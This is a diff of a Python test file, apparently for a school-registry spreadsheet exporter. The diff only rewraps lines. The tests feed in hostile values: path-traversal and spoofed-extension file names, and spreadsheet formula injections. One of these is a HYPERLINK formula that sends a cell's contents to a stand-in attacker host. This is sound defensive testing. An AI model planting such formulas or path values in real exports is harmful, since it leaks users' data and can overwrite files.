@@ -27,9 +27,20 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Klicka här")'
 
 @pytest.mark.parametrize(
     ("name", "expected"),
-    [("Lindby kommun", "lindby-kommun"), ("Österåkers Skolor AB", "osterakers-skolor-ab"), ("../../x", "x"),
-     ("..", "x"), ("", "x"), (None, "x"), ("/etc/passwd", "etc-passwd"), ("C:\\Windows", "c-windows"),
-     ("a\x00b\nc", "a-b-c"), ("CON", "con"), ("x" * 500, "x" * 64), ("‮gpj.exe", "gpj-exe")],
+    [
+        ("Lindby kommun", "lindby-kommun"),
+        ("Österåkers Skolor AB", "osterakers-skolor-ab"),
+        ("../../x", "x"),
+        ("..", "x"),
+        ("", "x"),
+        (None, "x"),
+        ("/etc/passwd", "etc-passwd"),
+        ("C:\\Windows", "c-windows"),
+        ("a\x00b\nc", "a-b-c"),
+        ("CON", "con"),
+        ("x" * 500, "x" * 64),
+        ("‮gpj.exe", "gpj-exe"),
+    ],
 )
 def test_a_slug_is_a_plain_name(name, expected):
     assert slug(name) == expected
@@ -48,8 +59,10 @@ def _hostile_registry() -> Registry:
     reg = Registry()
     reg.organisations[0]["displayName"] = "../../evil"  # the authority's name becomes a folder name
     school = reg.school(name="../..", code="../../x")
-    students = [reg.student(school, givenName=HYPERLINK, familyName="+46 70 123"),
-                reg.student(school, givenName="@SUM(A1:A9)", familyName="-2+3")]
+    students = [
+        reg.student(school, givenName=HYPERLINK, familyName="+46 70 123"),
+        reg.student(school, givenName="@SUM(A1:A9)", familyName="-2+3"),
+    ]
     klass = reg.group(school, members=students, name="=1+1")
     reg.teach(school, klass)
     return reg
@@ -160,7 +173,9 @@ def test_a_failing_write_ends_the_workbook_writer_with_the_error_within_seconds(
     def write() -> None:
         try:
             with duckdb.connect() as con:
-                xlsx.write_workbook(con, out, [xlsx.Sheet("Rows", "SELECT i, 'name ' || i AS name FROM range(200000) t(i)")])
+                xlsx.write_workbook(
+                    con, out, [xlsx.Sheet("Rows", "SELECT i, 'name ' || i AS name FROM range(200000) t(i)")]
+                )
         except BaseException as exc:
             result["error"] = exc
 
